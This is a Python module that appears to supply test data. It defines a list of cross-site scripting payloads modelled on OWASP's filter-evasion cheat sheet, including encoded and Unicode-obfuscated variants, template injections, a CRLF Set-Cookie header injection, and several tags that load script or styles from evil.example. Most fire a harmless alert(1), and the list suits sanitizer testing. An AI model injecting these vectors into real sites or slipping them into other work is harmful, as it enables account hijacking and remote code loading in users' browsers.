"""Strings that would run as a script if anybody let them, in the manner of OWASP's filter evasion list
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, read 2026-11-22).
"""

_TAGS = [
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src=`javascript:{}`>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    '<iframe srcdoc="<script>{}</script>">',
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<math><a xlink:href=javascript:{}>x</a></math>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/>",
    "<form action=javascript:{}><button>x",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--<img src='--><img src=x onerror={}//'>",
]
_ENDS = ['"', "'", "`", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "*/", "${", "\\"]
_OTHER = [
    "javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "';{};//",
    '";{};//',
    "${{}}",
    "{{constructor.constructor('{}')()}}",
    "{% raw %}{}{% endraw %}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<scr\u200bipt>{}</scr\u200bipt>",
    "\u202e<script>{}</script>",
    "\r\nSet-Cookie: x=<script>{}</script>",
]
INJECTIONS = [
    text.replace("{}", "alert(1)") for text in [*_TAGS, *(end + "<script>{}</script>" for end in _ENDS), *_OTHER]
]
